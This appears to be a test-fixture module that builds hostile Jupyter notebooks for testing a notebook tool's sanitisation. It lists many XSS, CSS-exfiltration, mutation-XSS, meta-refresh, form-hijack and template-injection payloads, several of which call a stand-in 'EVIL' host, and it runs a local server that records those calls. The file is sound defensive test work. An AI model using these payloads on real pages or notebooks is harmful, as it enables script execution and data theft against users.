"""Notebooks that a hostile researcher signs, so that whoever reads them does more than read."""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

from tests.limits import join

PLACE = "http://EVIL"
"""In a payload: where it would call home."""
RAN = f"top.ran=window.ran=1;document.title='ran';alert(1);fetch('{PLACE}/fetched')"
PIXEL = "data:image/png;base64,iVBORw0KGgo="

SCRIPTS = (
    f"<script>{RAN}</script>",
    f"</code></bdo></div><script>{RAN}</script>",
    f"</title></style></textarea></iframe><script>{RAN}</script>",
    f"<script src={PLACE}/script.js></script>",
    f"<ScRiPt\x0c>{RAN}</sCrIpT >",
    f'<noscript><p title="</noscript><script>{RAN}</script>"></noscript>',
    f"<template><script>{RAN}</script></template><template shadowrootmode=open><slot></template>",
    f"<!--><script>{RAN}</script-->",
    f"<![CDATA[<script>{RAN}</script>]]>",
    "{{ 7*7 }}{% include '/etc/passwd' %}${7*7}<%= 7*7 %>",
)
HANDLERS = (
    f'<img src=x onerror="{RAN}">',
    f'"><img src=x onerror="{RAN}">',
    f"'-({RAN})-'",
    f'<body onload="{RAN}">',
    f'<input autofocus onfocus="{RAN}">',
    f'<details open ontoggle="{RAN}">',
    f'<video><source onerror="{RAN}"></video>',
    f'<marquee onstart="{RAN}">',
    f'<p style="animation:x" onanimationstart="{RAN}">',
    f'<a hx-get="{PLACE}/htmx" hx-trigger="load" hx-on::load="{RAN}">',
)
SVG_AND_MATHML = (
    f'<svg onload="{RAN}"><circle r=9></svg>',
    f"<svg><script>{RAN}</script></svg>",
    f'<svg><animate xlink:href=#a attributeName=href to="javascript:{RAN}"/></svg>',
    f'<svg><foreignObject><iframe src="{PLACE}/svg"></iframe></foreignObject></svg>',
    f'<svg><use href="{PLACE}/use.svg#x"></svg>',
    f'<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RAN}&gt;">',
    "<form><math><mtext></form><form><mglyph><svg><mtext><style>"
    f'<path id="</style><img onerror={RAN} src>">',
    f'<math href="javascript:{RAN}">click</math>',
)
FRAMES = (
    f'<iframe src="javascript:{RAN}"></iframe>',
    f'<iframe srcdoc="&lt;script&gt;{RAN}&lt;/script&gt;"></iframe>',
    f'<iframe src="{PLACE}/frame"></iframe>',
    f'<object data="data:text/html,<script>{RAN}</script>"></object>',
    f'<embed src="{PLACE}/embed.svg">',
    f'<portal src="{PLACE}/portal"></portal><fencedframe></fencedframe>',
)
STYLES = (
    f"<style>@import url({PLACE}/import.css);</style>",
    f"<style>body{{background:url({PLACE}/background)}}</style>",
    f'<style>input[name=csrf][value^="a"]{{background:url({PLACE}/csrf-a)}}</style>',
    f"<style>@font-face{{font-family:x;src:url({PLACE}/font)}}*{{font-family:x}}</style>",
    f'<div style="background:url({PLACE}/inline)">x</div>',
    "<style>.note,.strange,mark{display:none!important}</style>",
    f'<link rel=stylesheet href="{PLACE}/link.css">',
    f'<link rel=prefetch href="{PLACE}/prefetch"><link rel=dns-prefetch href="{PLACE}">',
    '<div style="position:fixed;inset:0;background:#fff">nothing to see</div>',
)
PAGES = (
    f'<meta http-equiv=refresh content="0;url={PLACE}/refresh">',
    f'<meta http-equiv=refresh content="0;url=data:text/html,<script>{RAN}</script>">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    f'<base href="{PLACE}/">',
    f'<base target="_top"><a href="{PLACE}/top">x</a>',
    "<plaintext>",
    "<xmp><listing>",
    "<frameset><frame>",
    "</body></html>",
)
LINKS = (
    f"[click](javascript:{RAN})",
    f"[click](data:text/html,<script>{RAN}</script>)",
    f"[click]({PLACE}/followed)",
    f"<{PLACE}/autolink>",
    f"![picture]({PLACE}/picture.png)",
    f"![attached](attachment:picture.svg) [ref]\n\n[ref]: javascript:{RAN}",
    f"![data]({PIXEL})",
    f'<a href="{PLACE}/anchor" ping="{PLACE}/ping" download>x</a>',
    f'<form action="{PLACE}/form" method=post><button autofocus>Approve</button></form>',
    f'<button form=approve formaction="{PLACE}/formaction">Approve</button>',
    f'<area href="{PLACE}/area"><isindex action="{PLACE}/isindex">',
)
FAMILIES = {
    "scripts": SCRIPTS,
    "event handlers": HANDLERS,
    "SVG and MathML": SVG_AND_MATHML,
    "frames and plug-ins": FRAMES,
    "styles": STYLES,
    "elements of the page": PAGES,
    "links, pictures and forms": LINKS,
}


@dataclass
class Evil:
    """A server that notes every call; `url` is where payloads call, `page` what it has there."""

    url: str
    page: str = ""
    calls: list[str] = field(default_factory=list)

    def at_home(self, payload: str) -> str:
        return payload.replace(PLACE, self.url)


@contextmanager
def evil() -> Iterator[Evil]:
    """The place that hostile notebooks call home to."""
    made = Evil("")

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            made.calls.append(f"{self.command} {self.path}")
            self.send_response(200)
            body = made.page.encode() if self.path == "/page" else b""
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815 - as HTTP's methods are called

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    made.url = f"http://127.0.0.1:{server.server_port}"
    thread = Thread(target=server.serve_forever)
    thread.start()
    try:
        yield made
    finally:
        server.shutdown()
        join(thread)
        server.server_close()


def cell(source: str, number: int, kind: str = "code", **more: Any) -> dict[str, Any]:
    """A cell as phtlab writes it into a travelling notebook; `more` is what it does not."""
    code = {"outputs": [], "execution_count": None} if kind == "code" else {}
    return {
        "cell_type": kind,
        "id": f"cell-{number}",
        "metadata": {"phtlab": {"cell": number, "role": "station"}, "tags": ["station"]},
        "source": source.splitlines(keepends=True),
        **code,
        **more,
    }


def notebook(cells: Sequence[dict[str, Any]], **metadata: Any) -> bytes:
    return json.dumps(
        {
            "cells": list(cells),
            "metadata": {
                "kernelspec": {"display_name": "x", "language": "python", "name": "python3"},
                "language_info": {"name": "python"},
                **metadata,
            },
            "nbformat": 4,
            "nbformat_minor": 5,
        }
    ).encode()


def carrying(payloads: Sequence[str]) -> bytes:
    """Each payload as code, in a text, as markdown, raw, as output, attachment and metadata."""
    cells: list[dict[str, Any]] = []
    for payload in payloads:
        html = {"output_type": "display_data", "data": {"text/html": payload}, "metadata": {}}
        widget = {
            "output_type": "display_data",
            "data": {"application/vnd.jupyter.widget-view+json": {"model_id": payload}},
            "metadata": {"isolated": False},
        }
        cells += [
            cell(payload, len(cells) + 1, outputs=[html, widget]),
            cell(f"x = {payload!r}  # {payload}", len(cells) + 2),
            cell(
                payload,
                len(cells) + 3,
                "markdown",
                attachments={"picture.svg": {"image/svg+xml": payload}},
            ),
            cell(payload, len(cells) + 4, "raw", metadata=_metadata(len(cells) + 4, payload)),
        ]
    return notebook(cells, title=payloads[0], widgets={payloads[0]: payloads[0]})


def _metadata(number: int, payload: str) -> dict[str, Any]:
    role = payload[:40]
    return {"phtlab": {"cell": number, "role": role}, "tags": [payload], payload: payload}
